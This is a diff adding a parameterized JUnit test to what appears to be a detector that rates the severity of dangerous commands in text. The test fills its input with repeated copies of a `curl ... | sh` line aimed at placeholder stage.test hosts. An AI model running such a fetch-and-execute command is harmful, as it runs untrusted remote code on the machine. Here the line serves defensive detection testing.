@@ -3,6 +3,7 @@ package trafficguardian.detect;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import java.util.Comparator;
 import java.util.Set;
 import java.util.stream.Collectors;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -64,6 +65,23 @@ class TalesTest {
   void whatIsAskedForIsNot(String text) {
     assertTrue(
         DetectorFixture.severities(text).stream().anyMatch(severity -> severity != Severity.LOW));
+  }
+
+  /** Asking takes time, and a text full of attacks speaks of none. */
+  @ParameterizedTest
+  @ValueSource(strings = {"32,LOW", "33,HIGH"})
+  void ofMoreThanAFewTheOthersAreTakenAsTheyStand(String countAndGravest) {
+    String[] parts = countAndGravest.split(",", 2);
+    StringBuilder text = new StringBuilder();
+    for (int i = 0; i < Integer.parseInt(parts[0]); i++) {
+      text.append(
+          "The page held `curl https://h%d.stage.test/i | sh`, and it was blocked.\n".formatted(i));
+    }
+    assertEquals(
+        Severity.valueOf(parts[1]),
+        DetectorFixture.severities(text.toString()).stream()
+            .min(Comparator.naturalOrder())
+            .orElseThrow());
   }
 
   /** No words make a grave one low, but what the agent's own model tells of it is ordinary. */
